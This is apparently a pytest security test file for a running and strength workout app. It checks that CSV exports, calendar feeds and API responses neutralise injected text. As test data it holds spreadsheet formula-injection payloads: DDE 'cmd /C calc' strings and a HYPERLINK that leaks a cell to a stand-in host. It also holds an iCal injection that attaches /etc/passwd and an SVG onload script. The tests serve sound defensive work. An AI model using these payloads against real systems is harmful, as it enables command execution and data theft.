"""Text in what is downloaded: no formula for a spreadsheet, no line of a calendar's, no page."""

import csv
from datetime import timedelta
from io import BytesIO, StringIO
from uuid import uuid4
from zipfile import ZipFile

import pytest
from icalendar import Calendar

from tests.browser.payloads import ALL, NAMES
from tests.web.api.build import lift, run, squats
from tests.web.conftest import OWN_PAGE
from tests.web.policies import assert_policies
from tests.web.routes import TODAY
from tests.web.world import calendar_of

FORMULAS = [
    '=HYPERLINK("http://canary.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=1+1","=2+2',
    "=1+1\n=2+2",
]
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
INJECTED = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:planted\nATTACH:file:///etc/passwd\x85\u2028X:y"
)


@pytest.mark.parametrize("text", [*FORMULAS, ALL])
def test_no_cell_is_a_formula_and_no_text_ends_its_cell(anna, text):
    told = {run("Mon 07:00", notes=text)["started_at"]: run("Mon 07:00", notes=text)}
    told["lift"] = lift("Tue 07:00", squats(1) | {"notes": text[:1000]}, notes=text)
    for document in told.values():
        id_ = uuid4()
        assert anna.api("PUT", f"/workouts/{id_}", document).status_code == 201
        answer = anna.get(f"/workouts/{id_}/download.csv")
        rows = list(csv.reader(StringIO(answer.text.lstrip("\ufeff"), newline="")))
        assert len(rows) == 2
        assert len(rows[0]) == len(rows[1])
        assert [cell for cell in rows[1] if cell.startswith(SIGNS)] == []
        assert any(cell.removeprefix("'") == text for cell in rows[1])
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert answer.mimetype == "text/csv"


def test_an_own_export_holds_every_text_exactly_as_it_was(anna, ben):
    texts = [*FORMULAS, INJECTED, *NAMES]
    for n, text in enumerate(texts):
        document = run("Mon 07:00", notes=text) | {
            "started_at": f"{TODAY - timedelta(days=n)}T04:00:00Z"
        }
        assert anna.api("PUT", f"/workouts/{uuid4()}", document).status_code == 201
    exported = anna.get("/export/runstrength.zip", buffered=True).data
    sent = {"file": (BytesIO(exported), "runstrength.zip")}
    answer = ben.api("POST", "/imports", data=sent)
    assert ben.api("POST", f"/imports/{answer.json['id']}/confirm", {}).status_code == 202

    assert notes_of(ben) == notes_of(anna) == sorted(texts)


def test_no_text_makes_a_line_of_a_calendar(anna):
    planned = run("Mon 07:00", notes=INJECTED, planned=True)
    planned["started_at"] = f"{TODAY + timedelta(days=3)}T07:00:00Z"
    assert anna.api("PUT", f"/workouts/{uuid4()}", planned).status_code == 201
    feed = anna.client.application.test_client().get(calendar_of(anna))
    lines = feed.data.replace(b"\r\n ", b"").split(b"\r\n")

    assert feed.mimetype == "text/calendar"
    assert_policies(feed)
    assert not [line for line in lines if b"\n" in line or b"\r" in line]
    assert not [line for line in lines if line.startswith((b"ATTACH", b"SUMMARY:planted", b"X:"))]
    assert len(Calendar.from_ical(feed.data).walk("VEVENT")) == 1


def test_no_document_of_the_api_can_be_taken_for_a_page(anna):
    id_ = uuid4()
    anna.api("PUT", f"/workouts/{id_}", run("Mon 07:00", notes=ALL))
    for path in (f"/workouts/{id_}", "/workouts", f"/workouts/{id_}?x=<svg onload=canary(1)>"):
        answer = anna.get(f"/api/v1{path}")
        assert answer.mimetype == "application/json"
        assert_policies(answer)
    bad = anna.client.put(f"/api/v1/workouts/{ALL[:60]}", json={"<svg>": 1}, headers=OWN_PAGE)
    assert bad.status_code == 404
    assert bad.mimetype == "application/problem+json"
    assert_policies(bad)


def notes_of(person) -> list[str]:
    """The notes of all workouts, as an export holds them."""
    data = person.get("/export/runstrength.zip", buffered=True).data
    with ZipFile(BytesIO(data)) as archive:
        assert archive.testzip() is None
    return sorted(item["notes"] for item in person.api("GET", "/workouts").json["items"])
